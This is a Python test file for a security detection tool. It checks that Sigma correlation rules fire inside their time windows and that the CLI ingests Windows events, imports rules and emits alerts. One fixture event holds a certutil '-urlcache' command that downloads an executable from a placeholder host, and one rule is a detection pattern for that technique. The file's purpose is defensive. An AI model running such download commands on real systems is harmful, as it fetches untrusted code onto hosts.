"""Correlation rules over matches, and the whole path through the CLI: ingest Windows JSON,
import rules, detect, alerts as JSON lines with the rule's credit."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import orjson
from typer.testing import CliRunner

from carewarden.cli.main import app
from carewarden.sigma.alerts import Hit, fire
from carewarden.sigma.compiler import Correlation

RULES = """
title: Certutil Download
id: 0a0a0a0a-0000-4000-8000-000000000001
status: test
author: Test Author
logsource: {product: windows, category: process_creation}
detection:
  sel:
    Image|endswith: '\\\\certutil.exe'
    CommandLine|contains: 'urlcache'
  condition: sel
level: high
tags: [attack.command-and-control, attack.t1105]
---
title: Failed Logon
id: 0a0a0a0a-0000-4000-8000-000000000002
status: test
author: Test Author
logsource: {product: windows, service: security}
detection:
  sel:
    EventID: 4625
  condition: sel
level: low
---
title: Many Failed Logons For One User
id: 0a0a0a0a-0000-4000-8000-000000000003
status: test
author: Test Author
correlation:
  type: event_count
  rules: [0a0a0a0a-0000-4000-8000-000000000002]
  group-by: [TargetUserName]
  timespan: 5m
  condition: {gte: 3}
level: high
---
title: macOS Only
id: 0a0a0a0a-0000-4000-8000-000000000004
logsource: {product: macos, category: process_creation}
detection:
  sel: {Image: /bin/sh}
  condition: sel
"""


def hits(*times: int, user: str = "bob", rule: str = "r1") -> list[Hit]:
    base = dt.datetime(2026, 3, 2, 8, 0)
    return [
        Hit(
            rule,
            base + dt.timedelta(minutes=m),
            f"e{m}",
            "WS1",
            {"TargetUserName": user, "IpAddress": f"10.0.0.{m}"},
        )
        for m in times
    ]


def test_correlation_windows() -> None:
    """event_count, value_count and temporal hold only inside their time span."""
    count = Correlation("event_count", ["r1"], ["TargetUserName"], {}, 300, "gte", 3)
    assert fire(count, hits(0, 1, 2)) is not None
    assert fire(count, hits(0, 4, 9)) is None
    values = Correlation("value_count", ["r1"], [], {}, 600, "gte", 3, value_field="IpAddress")
    assert fire(values, hits(0, 1, 2)) is not None
    assert fire(values, hits(1, 1, 1)) is None
    temporal = Correlation("temporal", ["r1", "r2"], [], {}, 60, "gte", 1)
    assert fire(temporal, sorted(hits(0) + hits(0, rule="r2"), key=lambda h: h.time))
    assert fire(temporal, hits(0) + hits(5, rule="r2")) is None


def test_ingest_import_detect_alerts(tmp_path: Path) -> None:
    """Sigma alerts land in the shared alert table with rule id, author, reference, host."""
    store = tmp_path / "store"
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "test_rules.yml").write_text(RULES)
    base = "2026-03-02T08:0{m}:00Z"
    lines = [
        {
            "@timestamp": base.format(m=0),
            "winlog": {
                "channel": "Microsoft-Windows-Sysmon/Operational",
                "event_id": 1,
                "computer_name": "WS-ICU-01",
                "record_id": 1,
                "event_data": {
                    "Image": "C:\\Windows\\System32\\CertUtil.exe",
                    "CommandLine": "certutil -URLCACHE -f http://x/a.exe a.exe",
                },
            },
        },
        *(
            {
                "@timestamp": base.format(m=m),
                "winlog": {
                    "channel": "Security",
                    "event_id": 4625,
                    "computer_name": "DC1",
                    "record_id": 10 + m,
                    "event_data": {"TargetUserName": "nurse1"},
                },
            }
            for m in (1, 2, 3)
        ),
    ]
    source = tmp_path / "events.ndjson"
    source.write_bytes(b"\n".join(orjson.dumps(line) for line in lines))
    runner = CliRunner()
    result = runner.invoke(app, ["ingest", "winjson", str(source), "--store", str(store)])
    assert result.exit_code == 0, result.output
    result = runner.invoke(
        app,
        [
            "rules",
            "import",
            str(tmp_path / "rules"),
            "--store",
            str(store),
            "--source",
            "unit-tests",
        ],
    )
    assert result.exit_code == 0, result.output
    assert "3 compiled" in result.output and "1 failed" in result.output
    failed = runner.invoke(
        app, ["rules", "list", "--failed", "--format", "jsonl", "--store", str(store)]
    )
    reasons = [orjson.loads(line) for line in failed.output.splitlines()]
    assert [r["title"] for r in reasons] == ["macOS Only"]
    assert "only Windows and Linux rules" in reasons[0]["error"]
    assert runner.invoke(app, ["detect", "--store", str(store)]).exit_code in (0, 1)
    out = runner.invoke(app, ["alerts", "--format", "jsonl", "--store", str(store)])
    alerts = {a["rule_id"]: a for a in map(orjson.loads, out.output.splitlines())}
    certutil = alerts["0a0a0a0a-0000-4000-8000-000000000001"]
    assert certutil["host"] == "WS-ICU-01"
    assert certutil["severity"] == "high"
    assert certutil["author"] == "Test Author"
    assert certutil["reference"] == "unit-tests: test_rules.yml"
    assert certutil["event_ids"] == ["WS-ICU-01/Microsoft-Windows-Sysmon/Operational/1"]
    assert "T1105" in certutil["mapping"]
    # The failed logons feed the correlation only (generate: false): no alert of their own.
    assert "0a0a0a0a-0000-4000-8000-000000000002" not in alerts
    burst = alerts["0a0a0a0a-0000-4000-8000-000000000003"]
    assert len(burst["event_ids"]) == 3 and "TargetUserName=nurse1" in burst["explanation"]
    again = runner.invoke(app, ["detect", "--store", str(store)])
    assert "sigma: 0 new alert(s)" in again.output
